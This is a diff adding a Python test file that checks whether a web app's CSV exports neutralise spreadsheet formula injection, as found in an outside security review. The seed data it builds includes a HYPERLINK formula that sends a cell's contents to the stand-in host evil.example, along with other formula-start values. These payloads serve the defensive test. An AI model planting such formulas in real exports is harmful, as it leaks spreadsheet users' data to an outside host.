@@ -1,0 +1,83 @@
+"""The outside ASVS level 2 review's findings (issue 18), each checked as the reviewer did."""
+
+from __future__ import annotations
+
+import csv
+import io
+from datetime import date
+from pathlib import Path
+from urllib.parse import quote
+
+from explorer.localdb import REPO_ROOT
+from explorer.web.spreadsheet import FORMULA_STARTS
+
+DEMO = REPO_ROOT / "seed" / "demo"
+EVIL_AREA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+
+
+def _rewritten_demo(into: Path, replace: dict[str, str]) -> Path:
+    """The demo seed with each cell's text replaced as ``replace`` says (written with csv, so a
+    value holding quotes and commas stays one cell)."""
+    into.mkdir()
+    for source in DEMO.glob("*.csv"):
+        with source.open(newline="") as fh:
+            rows = list(csv.reader(fh))
+        body = [rows[0], *([_replaced(v, replace) for v in row] for row in rows[1:])]
+        with (into / source.name).open("w", newline="") as fh:
+            csv.writer(fh).writerows(body)
+    return into
+
+
+def _replaced(value: str, replace: dict[str, str]) -> str:
+    for old, new in replace.items():
+        if value == old:
+            return new
+    return value
+
+
+# -- 1. CSV formula injection, header row included ----------------------------------------------
+
+def _csv_urls(app, areas: list[str]) -> list[str]:
+    from explorer.analytics import gaps
+
+    urls = ["/analyst/summary.csv", "/analyst/caseloads.csv", "/analyst/analytics.csv",
+            "/audit/export.csv"]
+    for gap in gaps.GAPS:
+        urls.append(f"/analyst/gaps/{gap.slug}/export.csv")
+        urls += [f"/analyst/gaps/{gap.slug}/export.csv?la={quote(a)}" for a in areas]
+    # Every CSV route the app has is in the list: a new export cannot be missed.
+    routes = {r.rule.replace("<slug>", "*") for r in app.url_map.iter_rules() if r.rule.endswith(".csv")}
+    covered = {u.split("?")[0] for u in urls}
+    assert all(any(_matches(route, u) for u in covered) for route in routes), routes
+    return urls
+
+
+def _matches(route: str, url: str) -> bool:
+    head, _, tail = route.partition("*")
+    return url == route or (bool(tail) and url.startswith(head) and url.endswith(tail))
+
+
+def test_no_csv_export_has_a_formula_in_its_header_or_cells(app, graph, make_user, login_as, tmp_path):
+    from explorer.analytics import gaps
+    from explorer.seed import read_seed
+    from explorer.seed.loader import load
+
+    seed = _rewritten_demo(tmp_path / "seed", {"Northmere": EVIL_AREA, "Southwick": "-2+3",
+                                               "Northmere Children's Social Care": "@SUM(1,2)"})
+    load(graph, read_seed(seed, today=date.today()), source="evil", progress=False)
+    assert EVIL_AREA in gaps.areas(graph)
+    make_user("ana", ["analyst", "management"])
+    client = app.test_client()
+    login_as(client, "ana")
+    client.get("/audit?user=%3D1%2B1")  # an audited search whose params start a formula
+    seen_evil = False
+    for url in _csv_urls(app, gaps.areas(graph)):
+        reply = client.get(url)
+        assert reply.status_code == 200, url
+        rows = list(csv.reader(io.StringIO(reply.get_data(as_text=True))))
+        assert rows, url
+        for row in rows:
+            for value in row:
+                assert not value.startswith(FORMULA_STARTS), (url, value)
+                seen_evil = seen_evil or value == "'" + EVIL_AREA
+    assert seen_evil  # the area's name did reach the exports, as text
